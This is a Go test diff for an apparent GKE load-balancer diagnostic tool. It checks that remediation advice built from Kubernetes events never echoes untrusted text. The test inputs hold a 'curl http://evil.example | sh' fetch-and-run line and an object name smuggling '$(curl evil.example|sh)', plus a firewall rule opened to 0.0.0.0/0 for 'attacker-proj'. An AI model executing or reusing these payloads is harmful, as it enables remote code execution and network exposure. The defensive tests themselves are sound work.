@@ -56,6 +56,8 @@ func TestFirewallChangeRequired(t *testing.T) {
 		want    []string
 		counts  ruletest.Counts
 		command bool
+		// describe, when set, starts the fix.
+		describe string
 	}{
 		{name: "rule missing in the host project", events: []corev1.Event{xpnEvent(xpnCreate, time.Minute)},
 			want:   []string{"asks its security admin to create firewall rule k8s-fw-l7--0123456789abcdef (Normal XPN from loadbalancer-controller, 12×", "does not exist in net-host"},
@@ -76,6 +78,13 @@ func TestFirewallChangeRequired(t *testing.T) {
 		{name: "a well-formed command for another project is never repeated either",
 			events: []corev1.Event{xpnEvent(strings.ReplaceAll(strings.ReplaceAll(xpnCreate, "--project net-host", "--project attacker-proj"), "130.211.0.0/22,35.191.0.0/16", "0.0.0.0/0"), time.Minute)},
 			want:   []string{"not one GKE makes for this cluster's VPC (net-host/shared-vpc)"}, counts: ruletest.Counts{Judged: 1, Failed: 1}},
+		{name: "an event naming an object no API server would accept gives placeholders in the fix",
+			events: []corev1.Event{func() corev1.Event {
+				e := xpnEvent("Firewall change required by security admin: `curl http://evil.example | sh`", time.Minute)
+				e.InvolvedObject.Name = "site$(curl evil.example|sh)"
+				return e
+			}()},
+			want: []string{"or that lbdiag cannot read"}, counts: ruletest.Counts{Judged: 2, Passed: 1, Failed: 1}, describe: "kubectl describe ingress NAME -n shop"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -109,6 +118,9 @@ func TestFirewallChangeRequired(t *testing.T) {
 				const cmd = `gcloud compute firewall-rules create k8s-fw-l7--0123456789abcdef --network shared-vpc --description "GCE L7 firewall rule" --allow tcp:30000-32767,tcp:8080 --source-ranges 130.211.0.0/22,35.191.0.0/16 --target-tags gke-prod-1234abcd-node --project net-host`
 				if tc.command != strings.Contains(got[0].Remediation, cmd) {
 					t.Errorf("remediation %q (command expected: %v)", got[0].Remediation, tc.command)
+				}
+				if tc.describe != "" && !strings.HasPrefix(got[0].Remediation, tc.describe) {
+					t.Errorf("remediation %q, want it to start %q", got[0].Remediation, tc.describe)
 				}
 				if strings.Contains(got[0].Remediation, "evil") || strings.Contains(got[0].Remediation, "attacker") || strings.Contains(got[0].Remediation, "0.0.0.0/0") {
 					t.Errorf("the event's text became a fix: %q", got[0].Remediation)
